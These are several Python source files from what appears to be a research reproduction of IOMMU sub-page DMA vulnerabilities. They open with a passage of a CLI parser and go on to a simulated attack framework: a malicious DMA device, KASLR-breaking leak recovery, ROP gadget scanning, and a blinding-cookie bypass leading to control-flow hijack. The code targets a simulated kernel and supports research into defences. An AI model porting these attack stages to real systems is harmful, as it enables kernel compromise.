                            "-- SPADE findings are backend-independent")
    audit.set_defaults(func=cmd_audit)

    sanitize = sub.add_parser("sanitize", help="D-KASAN runtime run")
    sanitize.add_argument("--seed", type=int, default=9)
    sanitize.add_argument("--rounds", type=_positive_int, default=40)
    sanitize.set_defaults(func=cmd_sanitize)

    attack = sub.add_parser("attack", help="run one attack")
    attack.add_argument("name", choices=(
        "ringflood", "poisoned-tx", "forward", "blinding-bypass",
        "single-step", "stale-reuse", "memdump"))
    attack.add_argument("--profile-boots", type=_positive_int,
                        default=24)
    _add_victim_args(attack)
    attack.set_defaults(func=cmd_attack)

    campaign = sub.add_parser(
        "campaign",
        help="differential SPADE-vs-D-KASAN fuzzing campaign")
    campaign.add_argument("--seeds", type=_positive_int, default=20,
                          help="number of campaign seeds")
    campaign.add_argument("--seed-base", type=int, default=1,
                          help="first campaign seed value")
    campaign.add_argument("--jobs", type=_positive_int, default=1,
                          help="parallel worker processes")
    campaign.add_argument("--base-seed", type=int, default=2021,
                          help="repro.corpus seed the mutants derive "
                               "from")
    campaign.add_argument("--mutations", type=_positive_int, default=6,
                          help="mutations applied per seed")
    campaign.add_argument("--timeout", type=_positive_float,
                          default=120.0, metavar="SECONDS",
                          help="per-seed timeout (worker mode)")
    campaign.add_argument("--scale", type=_positive_float, default=1.0,
                          help="corpus size factor (e.g. 0.1 for a "
                               "fast smoke campaign)")
    campaign.add_argument("--output", default="campaign/results.jsonl",
                          help="JSONL results path")
    campaign.add_argument("--resume", action="store_true",
                          help="skip seeds already recorded as ok in "
                               "--output")
    campaign.add_argument("--trace-events", type=int, default=64,
                          metavar="N",
                          help="attach the last N flight-recorder "
                               "events to disagreeing seeds "
                               "(0 disables tracing)")
    campaign.add_argument("--shrink", action="store_true",
                          help="ddmin the first disagreeing seed down "
                               "to a minimal mutation set")
    campaign.add_argument("--cache-dir", default="campaign/cache",
                          metavar="DIR",
                          help="shared on-disk analysis cache workers "
                               "warm from (pass '' to disable; "
                               "default: %(default)s)")
    campaign.add_argument("--heartbeat-dir",
                          default="campaign/heartbeats", metavar="DIR",
                          help="worker heartbeat files for the live "
                               "progress line (pass '' to disable; "
                               "default: %(default)s)")
    campaign.add_argument("--stall-after", type=_positive_float,
                          default=60.0, metavar="SECONDS",
                          help="flag a worker as stalled after this "
                               "much heartbeat silence")
    campaign.add_argument("--retry", type=int, default=0, metavar="N",
                          help="re-run a failing seed (error, timeout, "
                               "crash, injected fault) up to N times")
    campaign.add_argument("--retry-stalled", type=int, default=0,
                          metavar="N",
                          help="SIGKILL a stalled worker and requeue "
                               "its seed up to N times (upgrades the "
                               "STALLED flag into recovery)")
    campaign.add_argument("--backoff", type=float, default=0.0,
                          metavar="SECONDS",
                          help="base for the deterministic jittered "
                               "sleep before each retry")
    campaign.add_argument("--fault-plan", metavar="PLAN.json",
                          help="arm a repro.faults plan inside every "
                               "worker (stream=seed, attempt=retry "
                               "number); default: $REPRO_FAULTS")
    campaign.add_argument("--backend", metavar="NAME",
                          help="IOMMU backend model for the dynamic "
                               "replay (see 'repro-dma backends "
                               "list'; default: intel-vtd)")
    campaign.add_argument("--backends", metavar="NAME,NAME[,...]",
                          help="cross-backend differential mode: run "
                               "every seed against each listed "
                               "backend and record backend-dependent "
                               "disagreements in "
                               "<output-stem>.cross.jsonl")
    campaign.add_argument("--shard-dir", metavar="DIR",
                          help="sharded work-queue mode: claim seed "
                               "ranges from DIR's atomic claim files "
                               "(run N independent processes with the "
                               "same command line to scale out); each "
                               "shard writes <stem>.shard-K.jsonl")
    campaign.add_argument("--shard-size", type=_positive_int,
                          default=25, metavar="N",
                          help="seeds per claimable shard "
                               "(default: %(default)s)")
    campaign.add_argument("--stale-claim", type=_positive_float,
                          default=300.0, metavar="SECONDS",
                          help="steal a claim untouched for this long "
                               "with no done marker (a killed "
                               "runner's range becomes re-claimable; "
                               "default: %(default)s)")
    campaign.add_argument("--merge", action="store_true",
                          help="combine the shard files into --output "
                               "with dedupe + torn-tail healing "
                               "(alone: merge only; with --shard-dir: "
                               "drain the queue, then merge)")
    campaign.set_defaults(func=cmd_campaign)

    trace = sub.add_parser(
        "trace",
        help="run a workload under the flight recorder")
    trace.add_argument("--workload",
                       choices=("ringflood", "compile-ping", "storage"),
                       default="compile-ping")
    trace.add_argument("--seed", type=int, default=5)
    trace.add_argument("--iommu-mode", choices=("deferred", "strict"),
                       default="deferred")
    trace.add_argument("--categories", metavar="CAT[,CAT...]",
                       help="comma-separated trace categories "
                            "(default: all)")
    trace.add_argument("--capacity", type=_positive_int,
                       default=65536,
                       help="ring capacity (drop-oldest beyond this)")
    trace.add_argument("--rounds", type=_positive_int, default=20,
                       help="compile-ping workload rounds")
    trace.add_argument("--commands", type=_positive_int, default=48,
                       help="storage workload commands")
    trace.add_argument("--profile-boots", type=_positive_int, default=8,
                       help="ringflood replica boots (untraced)")
    trace.add_argument("--output", metavar="PATH",
                       help="write the event stream as JSONL")
    trace.add_argument("--chrome", metavar="PATH",
                       help="write a chrome://tracing JSON file")
    trace.add_argument("--timeline", action="store_true",
                       help="print a text timeline")
    trace.add_argument("--last", type=_positive_int, default=None,
                       help="limit the timeline to the last N events")
    trace.add_argument("--summary", action="store_true",
                       help="print counters, histograms, and the "
                            "trace-derived invalidation windows")
    trace.add_argument("--backend", metavar="NAME",
                       help="IOMMU backend model (see 'repro-dma "
                            "backends list'; default: intel-vtd); "
                            "non-default backends tag their trace "
                            "events with a 'backend' field")
    trace.set_defaults(func=cmd_trace)

    coverage = sub.add_parser(
        "coverage",
        help="inspect, diff, merge, or rank campaign coverage maps")
    coverage_sub = coverage.add_subparsers(dest="coverage_cmd",
                                           required=True)
    cov_report = coverage_sub.add_parser(
        "report",
        help="summarize one coverage map (features, lanes, per-"
             "subsystem density)")
    cov_report.add_argument("path",
                            help="a .coverage.json map or a campaign "
                                 "results .jsonl")
    cov_report.set_defaults(func=cmd_coverage)
    cov_diff = coverage_sub.add_parser(
        "diff",
        help="feature-set diff between two maps (e.g. intel-vtd vs "
             "arm-smmuv3 lanes)")
    cov_diff.add_argument("left")
    cov_diff.add_argument("right")
    cov_diff.set_defaults(func=cmd_coverage)
    cov_merge = coverage_sub.add_parser(
        "merge",
        help="union maps into --output; merging shard maps is byte-"
             "identical to the unsharded map")
    cov_merge.add_argument("inputs", nargs="+",
                           help="maps or results files to union")
    cov_merge.add_argument("--output", required=True, metavar="PATH",
                           help="merged map destination")
    cov_merge.set_defaults(func=cmd_coverage)
    cov_top = coverage_sub.add_parser(
        "top",
        help="seeds ranked by features unique to them map-wide")
    cov_top.add_argument("path")
    cov_top.add_argument("--limit", type=_positive_int, default=10,
                         help="rows to print (default: %(default)s)")
    cov_top.set_defaults(func=cmd_coverage)

    cache = sub.add_parser(
        "cache",
        help="inspect, clear, or differentially verify the analysis "
             "cache")
    cache.add_argument("action", choices=("stats", "clear", "verify"))
    cache.add_argument("--cache-dir", metavar="DIR",
                       help="cache directory (default: "
                            "$REPRO_CACHE_DIR)")
    cache.add_argument("--corpus-seed", type=int, default=2021,
                       help="corpus seed for verify")
    cache.add_argument("--scale", type=float, default=0.25,
                       help="corpus scale for verify")
    cache.set_defaults(func=cmd_cache)

    bench = sub.add_parser(
        "bench",
        help="run the tracked perf benchmarks, write BENCH_perf.json")
    bench.add_argument("--output", default="BENCH_perf.json",
                       help="report path (default: %(default)s)")
    bench.add_argument("--scale", type=_positive_float, default=1.0,
                       help="SPADE corpus scale")
    bench.add_argument("--campaign-seeds", type=_positive_int,
                       default=16, help="seeds per campaign lane "
                       "(default: %(default)s)")
    bench.add_argument("--campaign-scale", type=_positive_float,
                       default=0.1, help="campaign corpus scale")
    bench.add_argument("--jobs", type=_positive_int, default=4,
                       help="widest campaign scaling lane; the bench "
                            "always also runs jobs=1 and jobs=2")
    bench.add_argument("--rounds", type=_positive_int, default=3,
                       help="kernel-bench repetitions (best round "
                            "wins)")
    bench.add_argument("--kernel-events", type=_positive_int,
                       default=50000,
                       help="events per kernel-bench round")
    bench.add_argument("--history", default="BENCH_history.jsonl",
                       metavar="PATH",
                       help="JSONL bench trajectory "
                            "(default: %(default)s)")
    bench.add_argument("--record", action=argparse.BooleanOptionalAction,
                       default=True,
                       help="append this run to --history "
                            "(--no-record to skip)")
    bench.add_argument("--check", action="store_true",
                       help="fail (exit 1) when a tracked metric "
                            "regresses past the gate vs the rolling "
                            "median of comparable prior runs")
    bench.add_argument("--regression-threshold", type=_positive_float,
                       default=0.25, metavar="FRACTION",
                       help="regression gate (default: %(default)s = "
                            "25%%)")
    bench.add_argument("--window", type=_positive_int, default=10,
                       help="rolling-median window size")
    bench.add_argument("--backend", metavar="NAME",
                       help="IOMMU backend model for the campaign and "
                            "kernel-event benches; per-backend runs "
                            "get their own history signature and "
                            "never cross-gate")
    bench.add_argument("--min-parallel-ratio", type=float, default=1.5,
                       metavar="RATIO",
                       help="--check fails when the jobs=N/jobs=1 "
                            "campaign throughput ratio drops below "
                            "this (0 disables; default: %(default)s)")
    bench.add_argument("--serve", action="store_true",
                       help="also boot a throwaway analysis daemon "
                            "and loadgen it, folding the serve "
                            "section into the same report")
    bench.set_defaults(func=cmd_bench)

    chaos = sub.add_parser(
        "chaos",
        help="run the standard workloads and a differential campaign "
             "under a deterministic fault-injection plan")
    chaos.add_argument("--plan", metavar="PLAN.json",
                       help="fault plan file (default: $REPRO_FAULTS, "
                            "else the built-in recoverable plan)")
    chaos.add_argument("--plan-seed", type=int, default=0,
                       help="seed for the built-in plan's RNG streams")
    chaos.add_argument("--seed", type=int, default=5,
                       help="kernel seed for the phase-A workloads")
    chaos.add_argument("--rounds", type=_positive_int, default=40,
                       help="compile-ping workload rounds")
    chaos.add_argument("--commands", type=_positive_int, default=48,
                       help="storage workload commands")
    chaos.add_argument("--profile-boots", type=_positive_int, default=8,
                       help="ringflood replica boots (fault-free)")
    chaos.add_argument("--campaign-seeds", type=_positive_int,
                       default=2,
                       help="seeds for the phase-B differential "
                            "campaign")
    chaos.add_argument("--campaign-scale", type=_positive_float,
                       default=0.08,
                       help="corpus scale for the phase-B campaign")
    chaos.add_argument("--jobs", type=_positive_int, default=1,
                       help="phase-B campaign worker processes")
    chaos.add_argument("--retry", type=int, default=2,
                       help="phase-B per-seed retry budget")
    chaos.add_argument("--metrics-output", metavar="PATH",
                       help="write the run's Prometheus metrics "
                            "(including faults_injected counters) "
                            "to PATH")
    chaos.add_argument("--backend", metavar="NAME",
                       help="IOMMU backend model for the phase-A "
                            "workloads and phase-B campaign replay")
    chaos.add_argument("--crash-points", type=int, default=0,
                       metavar="N",
                       help="also run a phase C: kill a campaign "
                            "subprocess at up to N durability crash "
                            "points and assert --resume recovers "
                            "byte-identically (0 disables; see "
                            "'crashtest' for the full matrix)")
    chaos.set_defaults(func=cmd_chaos)

    crashtest = sub.add_parser(
        "crashtest",
        help="kill a campaign at every reachable write, resume it, "
             "and prove findings + coverage recover byte-identically")
    crashtest.add_argument("--seeds", type=_positive_int, default=2,
                           help="campaign seeds per run "
                                "(default: %(default)s)")
    crashtest.add_argument("--scale", type=_positive_float,
                           default=0.08,
                           help="corpus scale per run "
                                "(default: %(default)s)")
    crashtest.add_argument("--jobs", type=_positive_int, default=1,
                           help="campaign worker processes (jobs=1 is "
                                "the deterministic enumeration lane; "
                                "jobs>1 exercises the coordinator "
                                "under parallel load)")
    crashtest.add_argument("--mutations", type=_positive_int,
                           default=3,
                           help="mutations per seed "
                                "(default: %(default)s)")
    crashtest.add_argument("--max-per-site", type=_positive_int,
                           default=2, metavar="N",
                           help="kill points exercised per crash site "
                                "(first/last/spread; default: "
                                "%(default)s)")
    crashtest.add_argument("--max-points", type=_positive_int,
                           default=None, metavar="N",
                           help="hard cap on kill points across all "
                                "sites (default: no cap)")
    crashtest.add_argument("--sites", metavar="SITE[,SITE...]",
                           help="restrict to these durability.* crash "
                                "sites (default: every site the "
                                "census reports reachable)")
    crashtest.add_argument("--torn-offsets", type=int, default=4,
                           metavar="N",
                           help="byte offsets truncated per artifact "
                                "in the torn-write matrix (0 "
                                "disables; default: %(default)s)")
    crashtest.add_argument("--timeout", type=_positive_float,
                           default=600.0, metavar="SECONDS",
                           help="per-subprocess timeout "
                                "(default: %(default)s)")
    crashtest.add_argument("--backend", metavar="NAME",
                           help="IOMMU backend model for the "
                                "campaigns")
    crashtest.set_defaults(func=cmd_crashtest)

    metrics = sub.add_parser(
        "metrics",
        help="run a workload under the metrics registry and export "
             "the aggregate counters")
    metrics.add_argument("--workload",
                         choices=("ringflood", "compile-ping",
                                  "storage"),
                         default="compile-ping")
    metrics.add_argument("--seed", type=int, default=5)
    metrics.add_argument("--iommu-mode",
                         choices=("deferred", "strict"),
                         default="deferred")
    metrics.add_argument("--format",
                         choices=("prometheus", "json", "proc"),
                         default="prometheus",
                         help="export format (proc = /proc-style "
                              "snapshot text)")
    metrics.add_argument("--rounds", type=_positive_int, default=20,
                         help="compile-ping workload rounds")
    metrics.add_argument("--commands", type=_positive_int, default=48,
                         help="storage workload commands")
    metrics.add_argument("--profile-boots", type=_positive_int,
                         default=8,
                         help="ringflood replica boots (uncounted)")
    metrics.add_argument("--output", metavar="PATH",
                         help="write the export to PATH instead of "
                              "stdout")
    metrics.add_argument("--backend", metavar="NAME",
                         help="IOMMU backend model; non-default "
                              "backends label their iommu metric "
                              "families with backend=NAME")
    metrics.set_defaults(func=cmd_metrics)

    matrix = sub.add_parser("matrix", help="defense matrix")
    matrix.add_argument("--seed", type=int, default=1)
    matrix.set_defaults(func=cmd_matrix)

    oscompare = sub.add_parser("oscompare",
                               help="section 7 OS comparison")
    oscompare.add_argument("--seed", type=int, default=81)
    oscompare.set_defaults(func=cmd_oscompare)

    serve = sub.add_parser(
        "serve",
        help="persistent SPADE-as-a-service analysis daemon")
    serve.add_argument("--socket", metavar="PATH",
                       help="Unix socket path (default "
                            "$REPRO_SERVE_SOCKET, else "
                            "./repro-serve.sock)")
    serve.add_argument("--tcp", metavar="HOST:PORT",
                       help="listen on TCP instead (port 0 = "
                            "ephemeral)")
    serve.add_argument("--workers", type=_positive_int, default=None,
                       help="worker threads "
                            "(default $REPRO_SERVE_WORKERS or 2)")
    serve.add_argument("--queue-bound", type=_positive_int,
                       default=None,
                       help="admission queue bound; full -> requests "
                            "are rejected "
                            "(default $REPRO_SERVE_QUEUE or 16)")
    serve.add_argument("--memory-budget", type=_positive_int,
                       default=None, metavar="MIB",
                       help="corpus LRU byte budget "
                            "(default $REPRO_SERVE_MEM_BUDGET or 64)")
    serve.add_argument("--warmup", type=_positive_float, default=None,
                       metavar="SCALE",
                       help="pre-run one analyze at SCALE before "
                            "accepting connections")
    serve.add_argument("--allow-debug-sleep", action="store_true",
                       help="honor ping.sleep_ms (load tests only)")
    serve.add_argument("--stats-output", metavar="PATH",
                       help="write the serve stats JSON on shutdown")
    serve.add_argument("--backend", metavar="NAME",
                       help="default IOMMU backend model for replay "
                            "requests that do not carry their own "
                            "'backend' field "
                            "(default $REPRO_SERVE_BACKEND, else "
                            "intel-vtd)")
    serve.set_defaults(func=cmd_serve)

    backends_cmd = sub.add_parser(
        "backends",
        help="list or show the pluggable IOMMU backend models")
    backends_cmd.add_argument("action", choices=("list", "show"))
    backends_cmd.add_argument("name", nargs="?",
                              help="backend name (show only)")
    backends_cmd.set_defaults(func=cmd_backends)

    loadgen = sub.add_parser(
        "loadgen",
        help="drive a serve daemon with a mixed request load")
    loadgen.add_argument("--socket", metavar="PATH")
    loadgen.add_argument("--tcp", metavar="HOST:PORT")
    loadgen.add_argument("--requests", type=_positive_int, default=50)
    loadgen.add_argument("--connections", type=_positive_int,
                         default=4)
    loadgen.add_argument("--rps", type=float, default=20.0,
                         help="target aggregate request rate "
                              "(0 = as fast as possible)")
    loadgen.add_argument("--mix", default="analyze=6,replay=3,chaos=1",
                         help="weighted request mix, e.g. "
                              "analyze=6,replay=3,chaos=1")
    loadgen.add_argument("--scale", type=_positive_float, default=0.25,
                         help="analyze corpus scale")
    loadgen.add_argument("--corpus-seed", type=int, default=2021)
    loadgen.add_argument("--replay-scale", type=_positive_float,
                         default=0.1)
    loadgen.add_argument("--replay-seeds", type=_positive_int,
                         default=4)
    loadgen.add_argument("--mutations", type=_positive_int, default=3)
    loadgen.add_argument("--chaos-rounds", type=_positive_int,
                         default=6)
    loadgen.add_argument("--chaos-commands", type=_positive_int,
                         default=8)
    loadgen.add_argument("--seed", type=int, default=0)
    loadgen.add_argument("--retries", type=_positive_int, default=5,
                         help="per-request retry budget for "
                              "rejected/aborted/dropped requests")
    loadgen.add_argument("--connect-timeout", type=_positive_float,
                         default=30.0,
                         help="seconds to wait for the daemon to "
                              "answer ping")
    loadgen.add_argument("--no-cold-baseline", action="store_true",
                         help="skip the in-process uncached one-shot "
                              "baseline measurement")
    loadgen.add_argument("--require-speedup", type=_positive_float,
                         default=None, metavar="X",
                         help="exit 1 unless warm analyze p50 beats "
                              "the cold one-shot by at least X times")
    loadgen.add_argument("--output", default="BENCH_perf.json",
                         help="merge a 'serve' section into this "
                              "BENCH json (or write a standalone "
                              "report elsewhere)")
    loadgen.add_argument("--record", action="store_true",
                         help="append a record to the bench history")
    loadgen.add_argument("--history", default="BENCH_history.jsonl")
    loadgen.set_defaults(func=cmd_loadgen)
    return parser


def main(argv: list[str] | None = None) -> int:
    args = build_parser().parse_args(argv)
    try:
        return args.func(args)
    except KeyboardInterrupt:
        print("interrupted", file=sys.stderr)
        return 130
    except BrokenPipeError:
        # stdout went away mid-print (e.g. `backends list | head`);
        # the downstream consumer got what it asked for
        devnull = os.open(os.devnull, os.O_WRONLY)
        os.dup2(devnull, sys.stdout.fileno())
        return 0


if __name__ == "__main__":
    sys.exit(main())
