"""The paper's contributions: taxonomy, attributes, SPADE, D-KASAN, attacks."""

from repro.core.vulns import SubPageVulnerability, VulnType
from repro.core.attributes import VulnerabilityAttributes

__all__ = ["SubPageVulnerability", "VulnType", "VulnerabilityAttributes"]
