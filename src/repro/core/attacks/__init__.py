"""Attack framework: malicious device, payloads, compound attacks."""

from repro.core.attacks.device import AttackerKnowledge, MaliciousDevice
from repro.core.attacks.payload import (ROP_CHAIN_OFFSET, UBUF_PAYLOAD_SIZE,
                                        build_attack_blob)

__all__ = [
    "AttackerKnowledge",
    "MaliciousDevice",
    "ROP_CHAIN_OFFSET",
    "UBUF_PAYLOAD_SIZE",
    "build_attack_blob",
]
