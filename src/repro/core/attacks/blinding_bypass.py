"""Compound bypass of callback-pointer blinding (section 7, macOS).

"MacOS ... blinding the exposed callback pointer ext_free by XORing it
with a secret cookie. Indeed, this is sufficient to defend against
*single-step* attacks. However ... ext_free can receive only one of
two possible values. As a result, once an attacker compromises MacOS
KASLR, the random cookie is revealed by a single XOR operation."

The Linux-flavoured equivalent here: the victim blinds the
``ubuf_info.callback`` it stores for MSG_ZEROCOPY transmissions. The
attacker

1. breaks KASLR from TX-page leaks (blinding hides nothing there),
2. coerces a large echo so the response uses zerocopy, reads the
   (unblinded) ``destructor_arg`` off the TX-mapped linear page, and
   turns it into the ubuf's PFN,
3. reads the ubuf's page via the surveillance primitive; the stored
   callback can only be ``sock_def_write_space``, so
   ``cookie = stored XOR known_plaintext``,
4. re-runs the standard hijack with the blob's callback word
   pre-XORed by the cookie -- the kernel's unblinding now lands on the
   JOP pivot.
"""

from __future__ import annotations

from dataclasses import dataclass, field
from typing import TYPE_CHECKING

from repro.core.attacks.device import MaliciousDevice
from repro.core.attacks.kaslr_leak import break_kaslr_via_tx
from repro.core.attacks.poisoned_tx import run_poisoned_tx
from repro.core.attacks.surveillance import read_arbitrary_pages
from repro.core.attributes import VulnerabilityAttributes
from repro.mem.phys import PAGE_SIZE
from repro.net.proto import PROTO_UDP, make_packet
from repro.net.stack import ECHO_PORT
from repro.net.structs import SKB_SHARED_INFO, skb_shared_info_offset

if TYPE_CHECKING:
    from repro.net.nic import Nic
    from repro.sim.kernel import Kernel

_DESTRUCTOR_ARG_OFF = SKB_SHARED_INFO.field("destructor_arg").offset

#: buf_size of the linear head for large echoes (public stack config).
ECHO_LINEAR_BUF_SIZE = 256


@dataclass
class BlindingBypassReport:
    attributes: VulnerabilityAttributes
    cookie_recovered: int | None = None
    escalated: bool = False
    stage_log: list[str] = field(default_factory=list)


def recover_blinding_cookie(kernel: "Kernel", nic: "Nic",
                            device: MaliciousDevice, *,
                            cpu: int = 0) -> int | None:
    """Stages 2+3: observe one blinded callback, XOR with plaintext."""
    # Coerce a zerocopy echo (payload above the victim's threshold).
    request = make_packet(dst_ip=0x0A00_0001, dst_port=ECHO_PORT,
                          proto=PROTO_UDP, flow_id=0x5500,
                          payload=b"Z" * 700)
    if not nic.device_receive(request, cpu=cpu):
        return None
    nic.napi_poll(cpu=cpu)
    kernel.stack.process_backlog()
    shared_info_off = skb_shared_info_offset(ECHO_LINEAR_BUF_SIZE)
    ubuf_kva = None
    delayed = []
    frag0_page_off = SKB_SHARED_INFO.field("frags[0].page").offset
    for desc, _data in nic.device_fetch_tx(cpu=cpu, complete=False):
        candidate = device.dma_read_u64(
            desc.linear_iova + shared_info_off + _DESTRUCTOR_ARG_OFF)
        if candidate:
            ubuf_kva = candidate
            delayed.append(desc)  # keep the ubuf alive
            if device.knowledge.vmemmap_base is None:
                page_ptr = device.dma_read_u64(
                    desc.linear_iova + shared_info_off + frag0_page_off)
                if page_ptr:
                    device.knowledge.vmemmap_base = \
                        device.leak_scanner.recover_vmemmap_base(page_ptr)
        else:
            nic.device_complete_tx(desc)
    if ubuf_kva is None or device.knowledge.page_offset_base is None:
        for desc in delayed:
            nic.device_complete_tx(desc)
        nic.tx_clean(cpu=cpu)
        return None
    ubuf_paddr = ubuf_kva - device.knowledge.page_offset_base
    ubuf_pfn = ubuf_paddr // PAGE_SIZE
    report = read_arbitrary_pages(kernel, nic, device, [ubuf_pfn], cpu=cpu)
    page = report.pages_read.get(ubuf_pfn, b"")
    offset = ubuf_paddr % PAGE_SIZE
    stored = int.from_bytes(page[offset:offset + 8], "little")
    # The field can hold only one legitimate value: the zerocopy
    # completion handler. One XOR reveals the cookie.
    plaintext = device.knowledge.symbol_kva("sock_def_write_space")
    cookie = stored ^ plaintext
    for desc in delayed:
        nic.device_complete_tx(desc)
    nic.tx_clean(cpu=cpu)
    return cookie


def run_blinding_bypass(kernel: "Kernel", nic: "Nic",
                        device: MaliciousDevice, *,
                        cpu: int = 0) -> BlindingBypassReport:
    """Full compound attack against a blinding victim.

    Requires the victim to forward packets (for the surveillance read)
    and to use MSG_ZEROCOPY for large sends -- both standard features.
    """
    attrs = VulnerabilityAttributes()
    report = BlindingBypassReport(attributes=attrs)
    if not break_kaslr_via_tx(kernel, nic, device, cpu=cpu):
        report.stage_log.append("KASLR break failed; aborting")
        return report
    report.stage_log.extend(device.knowledge.notes)
    cookie = recover_blinding_cookie(kernel, nic, device, cpu=cpu)
    if cookie is None:
        report.stage_log.append("could not observe a blinded callback")
        return report
    device.knowledge.blinding_cookie = cookie
    report.cookie_recovered = cookie
    report.stage_log.append(
        f"blinding cookie {cookie:#018x} = stored XOR "
        f"sock_def_write_space (single XOR, section 7)")
    attrs.record_callback_access(
        "blinded callback field writable; cookie recovered, so the "
        "stored value can be forged")
    # Stage 4: the standard Poisoned-TX hijack now works -- the blob's
    # callback word is pre-XORed with the cookie.
    inner = run_poisoned_tx(kernel, nic, device, cpu=cpu)
    report.stage_log.extend(inner.stage_log)
    if inner.attributes.malicious_buffer_kva.obtained:
        attrs.malicious_buffer_kva = inner.attributes.malicious_buffer_kva
    if inner.attributes.time_window.obtained:
        attrs.time_window = inner.attributes.time_window
    report.escalated = inner.escalated
    return report
