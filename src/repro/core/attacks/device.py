"""The malicious DMA-capable device (threat model, section 3.1).

The attacker's capabilities are exactly the paper's:

* it owns one device attached to the victim's IOMMU and performs the
  attack *solely via DMA* through that device's domain;
* it knows the victim's kernel **build** -- symbol and gadget offsets
  within the image -- because kernel builds are public (the paper's
  attacker ran ROPgadget on the same distribution kernel);
* it sees the device-side contract: descriptor rings (IOVAs + sizes)
  and its own DMA successes/failures;
* it does NOT see kernel virtual addresses, physical addresses, or the
  KASLR slides -- those must be *recovered*, which is what the compound
  attacks are about.

All memory access funnels through :meth:`dma_read` / :meth:`dma_write`,
which call the IOMMU like any device; there is no back door.
"""

from __future__ import annotations

from dataclasses import dataclass, field

from repro.cpu.gadgets import GadgetScanner
from repro.cpu.text import KernelImage
from repro.errors import AttackFailed, IommuFault
from repro.iommu.iommu import Iommu
from repro.kaslr.leak import LeakScanner, PointerLeak


@dataclass
class AttackerKnowledge:
    """What the attacker knows: build facts plus recovered slides."""

    #: image-relative symbol offsets (public build knowledge)
    symbol_offsets: dict[str, int]
    #: image-relative offsets of useful gadgets (found offline)
    gadget_offsets: dict[str, int]
    pivot_const: int = 0x10
    #: recovered at run time by leak analysis
    text_base: int | None = None
    page_offset_base: int | None = None
    vmemmap_base: int | None = None
    #: recovered XOR cookie when the victim blinds stored callbacks
    blinding_cookie: int | None = None
    notes: list[str] = field(default_factory=list)

    @classmethod
    def from_public_build(cls, image: KernelImage) -> "AttackerKnowledge":
        """Offline preparation: scan the public kernel binary.

        Mirrors section 6: "We located such a gadget using the
        ROPgadget tool."
        """
        scanner = GadgetScanner(image.text)
        pivot = scanner.find_stack_pivot()
        gadgets = {
            "pivot": pivot.image_offset,
            "pop rdi": scanner.find_pop("rdi").image_offset,
            "mov rdi, rax": scanner.find_mov_rdi_rax().image_offset,
        }
        symbols = {name: sym.image_offset
                   for name, sym in image.symbols().items()}
        return cls(symbol_offsets=symbols, gadget_offsets=gadgets,
                   pivot_const=pivot.instructions[0].imm or 0)

    @property
    def kaslr_broken(self) -> bool:
        return self.text_base is not None

    def symbol_kva(self, name: str) -> int:
        if self.text_base is None:
            raise AttackFailed("text base not yet recovered",
                               stage="kaslr")
        return self.text_base + self.symbol_offsets[name]

    def gadget_kva(self, name: str) -> int:
        if self.text_base is None:
            raise AttackFailed("text base not yet recovered",
                               stage="kaslr")
        return self.text_base + self.gadget_offsets[name]

    def kva_of_pfn(self, pfn: int, offset: int = 0) -> int:
        if self.page_offset_base is None:
            raise AttackFailed("page_offset_base not yet recovered",
                               stage="kaslr")
        return self.page_offset_base + (pfn << 12) + offset

    def pfn_of_struct_page(self, page_ptr: int) -> int:
        if self.vmemmap_base is None:
            raise AttackFailed("vmemmap_base not yet recovered",
                               stage="kaslr")
        return (page_ptr - self.vmemmap_base) // 64


class MaliciousDevice:
    """Attacker-controlled device: DMA primitives + leak analysis."""

    def __init__(self, iommu: Iommu, device_name: str,
                 knowledge: AttackerKnowledge) -> None:
        self._iommu = iommu
        self.device_name = device_name
        self.knowledge = knowledge
        self.leak_scanner = LeakScanner()
        self.dma_writes = 0
        self.dma_reads = 0
        self.faults = 0

    # -- raw DMA ------------------------------------------------------------------

    def dma_read(self, iova: int, length: int) -> bytes:
        try:
            data = self._iommu.device_read(self.device_name, iova, length)
        except IommuFault:
            self.faults += 1
            raise
        self.dma_reads += 1
        return data

    def dma_write(self, iova: int, data: bytes) -> None:
        try:
            self._iommu.device_write(self.device_name, iova, data)
        except IommuFault:
            self.faults += 1
            raise
        self.dma_writes += 1

    def dma_write_u64(self, iova: int, value: int) -> None:
        self.dma_write(iova, value.to_bytes(8, "little"))

    def dma_read_u64(self, iova: int) -> int:
        return int.from_bytes(self.dma_read(iova, 8), "little")

    def can_write(self, iova: int) -> bool:
        """Probe whether a write would land (a device can always try a
        DMA and observe whether it aborted)."""
        return self._iommu.device_can_access(self.device_name, iova,
                                             write=True)

    def can_read(self, iova: int) -> bool:
        return self._iommu.device_can_access(self.device_name, iova,
                                             write=False)

    # -- leak harvesting (section 2.4) ------------------------------------------------

    def harvest_leaks(self, iova: int, length: int) -> list[PointerLeak]:
        """Scan a readable window for kernel pointers."""
        return self.leak_scanner.scan(self.dma_read(iova, length))

    def try_recover_text_base(self, leaks: list[PointerLeak]) -> bool:
        """init_net matching: one leaked pointer breaks text KASLR."""
        base = self.leak_scanner.recover_text_base(
            leaks, self.knowledge.symbol_offsets["init_net"])
        if base is None:
            return False
        self.knowledge.text_base = base
        self.knowledge.notes.append(
            f"text base {base:#x} recovered via init_net leak")
        return True

    def try_recover_vmemmap_base(self, leaks: list[PointerLeak]) -> bool:
        """Any struct-page leak pins vmemmap_base (30-bit alignment)."""
        for leak in leaks:
            if leak.region.name == "vmemmap":
                base = self.leak_scanner.recover_vmemmap_base(leak.value)
                self.knowledge.vmemmap_base = base
                self.knowledge.notes.append(
                    f"vmemmap base {base:#x} recovered from struct page "
                    f"leak {leak.value:#x}")
                return True
        return False

    def try_recover_page_offset_base(
            self, pairs: list[tuple[int, int]]) -> bool:
        """Vote (pfn, same-page KVA) pairs into page_offset_base."""
        base = self.leak_scanner.recover_page_offset_base(pairs)
        if base is None:
            return False
        self.knowledge.page_offset_base = base
        self.knowledge.notes.append(
            f"page_offset_base {base:#x} recovered from "
            f"{len(pairs)} (pfn, kva) pairs")
        return True
