"""The Forward Thinking compound attack (section 5.5, Figure 9).

Against a victim with packet forwarding enabled, a device needs no
cooperating user process at all:

1. It injects linear TCP segments of one flow; the GRO layer converts
   them "into a single sk_buff with multiple fragments" whose frags[]
   carry struct page pointers of the *attacker-written* RX pages --
   recovering ``vmemmap_base`` from the first TX read.
2. Frags spoofing (surveillance) then reads arbitrary low-memory
   pages, leaking ``init_net`` (text base) and SLUB freelist KVAs
   (``page_offset_base``) -- full KASLR compromise.
3. A second GRO flow carries the now-constructible ROP blob; its TX
   frags reveal the blob's exact KVA; the device withholds the TX
   completion so the member buffer stays alive.
4. A final spoofed RX packet's shared info is hijacked through a
   Figure-7 window to point ``destructor_arg`` at the blob; freeing
   it escalates privileges.
"""

